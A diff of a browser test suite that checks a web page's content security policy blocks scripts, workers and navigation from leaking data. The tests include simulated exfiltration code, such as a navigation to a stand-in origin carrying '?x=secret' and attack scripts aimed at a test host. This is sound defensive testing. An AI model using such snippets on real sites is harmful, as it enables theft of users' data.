@@ -12,7 +12,7 @@ import pytest
 from overrides.build.finish_site import REGISTER
 from overrides.build.serve import make_server
 from tests.scenarios import SCENARIOS, every
-from tests.web.conftest import SITE, open_letter_page
+from tests.web.conftest import SITE, WITH_LATER, open_letter_page
 
 PAGE_ATTACK = """async (other) => {
   const http = 'http://' + other, tries = [];
@@ -140,21 +140,21 @@ RUN_WORKER = """async ([other, byUrl]) => {
 
 
 def test_page_script_cannot_send_anything(new_page, address, elsewhere):
-    page = open_letter_page(new_page(), address)
+    page = open_letter_page(new_page(**WITH_LATER), address, keep=True)
     page.evaluate(PAGE_ATTACK, elsewhere.origin)
     assert elsewhere.calls == []
 
 
 def test_no_other_page_can_send_anything_either(new_page, address, elsewhere):
     for path in ("", "guides/", "guides/step-therapy/", "about/privacy/", "about/sources/"):
-        page = new_page()
+        page = new_page(**WITH_LATER)
         page.goto(address + path)
         page.evaluate(PAGE_ATTACK, elsewhere.origin)
         assert elsewhere.calls == [], path
 
 
 def test_a_hostile_worker_and_hostile_python_cannot_send_anything(new_page, hostile_site, elsewhere):
-    page = new_page()
+    page = new_page(**WITH_LATER)
     page.goto(hostile_site(by_url=False) + "letter/")
     page.wait_for_selector("#letter-page[data-first=done]", timeout=60_000)
     page.evaluate(RUN_WORKER, [elsewhere.origin, False])
@@ -162,7 +162,7 @@ def test_a_hostile_worker_and_hostile_python_cannot_send_anything(new_page, host
 
 
 def test_the_attack_is_real_a_worker_started_by_url_leaks(new_page, hostile_site, elsewhere):
-    page = new_page()
+    page = new_page(**WITH_LATER)
     page.goto(hostile_site(by_url=True) + "letter/")
     page.wait_for_selector("#letter-page[data-first=done]", timeout=60_000)
     page.evaluate(RUN_WORKER, [elsewhere.origin, True])
@@ -182,7 +182,7 @@ def test_without_the_policy_the_page_attack_gets_through(new_page, tmp_path, els
     page_file.write_text(bare, encoding="utf-8")
     server = make_server(copy)
     threading.Thread(target=server.serve_forever, daemon=True).start()
-    page = new_page()
+    page = new_page(**WITH_LATER)
     page.goto(f"http://127.0.0.1:{server.server_port}/letter/")
     page.evaluate(PAGE_ATTACK, elsewhere.origin)
     assert any("secret" in call for call in elsewhere.calls)
@@ -213,7 +213,7 @@ CANARY = "Quillfeather"
 
 def test_nothing_typed_becomes_a_link_a_form_target_or_a_location(new_page, address):
     """Navigation is the one road a policy cannot close, so nothing typed may ever be on it."""
-    page = open_letter_page(new_page(), address)
+    page = open_letter_page(new_page(**WITH_LATER), address, keep=True)
     requests = []
     page.on("request", lambda request: requests.append(request.url + (request.post_data or "")))
     logs = []
@@ -272,7 +272,7 @@ def test_nothing_typed_becomes_a_link_a_form_target_or_a_location(new_page, addr
 
 
 def test_no_page_but_the_letter_page_loads_python(new_page, address):
-    page = new_page()
+    page = new_page(**WITH_LATER)
     urls = []
     page.on("request", lambda request: urls.append(request.url))
     for path in ("", "guides/", "about/privacy/"):
@@ -283,7 +283,7 @@ def test_no_page_but_the_letter_page_loads_python(new_page, address):
 
 @pytest.mark.parametrize("scenario", every(10, 1))
 def test_nothing_comes_from_another_origin(new_page, address, scenario):
-    page = new_page()
+    page = new_page(**WITH_LATER)
     urls = []
     page.on("request", lambda request: urls.append(request.url))
     open_letter_page(page, address)
@@ -311,7 +311,7 @@ CALLS = "typeof RTCPeerConnection + typeof webkitRTCPeerConnection + typeof WebT
 
 
 def test_no_script_takes_the_reader_of_the_letter_page_elsewhere(new_page, address, elsewhere):
-    page = open_letter_page(new_page(), address)
+    page = open_letter_page(new_page(**WITH_LATER), address, keep=True)
     with page.expect_download():  # a file that was made here is handed over
         page.set_input_files("#open-case", SCENARIOS[0].case_file)
         page.wait_for_selector("#letter h2", state="attached")
@@ -328,14 +328,14 @@ def test_no_script_takes_the_reader_of_the_letter_page_elsewhere(new_page, addre
 
 
 def test_a_persons_own_click_leaves_the_letter_page(new_page, address):
-    page = open_letter_page(new_page(), address)
+    page = open_letter_page(new_page(**WITH_LATER), address, keep=True)
     page.click(".site-menu > summary")
     page.click(".site-menu a[href$='guides/']")
     page.wait_for_url(address + "guides/")
 
 
 def test_the_roads_are_real_a_page_without_the_guard_is_left(new_page, address, elsewhere):
-    page = new_page()
+    page = new_page(**WITH_LATER)
     page.goto(address + "guides/")
     page.evaluate("(url) => { location = url; }", f"http://{elsewhere.origin}/?x=secret")
     page.wait_for_url("**/?x=secret")
@@ -343,7 +343,7 @@ def test_the_roads_are_real_a_page_without_the_guard_is_left(new_page, address, 
 
 
 def test_only_the_letter_may_become_html_and_only_a_blob_a_worker(new_page, address):
-    page = open_letter_page(new_page(), address)
+    page = open_letter_page(new_page(**WITH_LATER), address, keep=True)
     refused = page.evaluate(
         """async () => {
           const tries = { html: () => { document.createElement('div').innerHTML = '<b>x</b>'; },
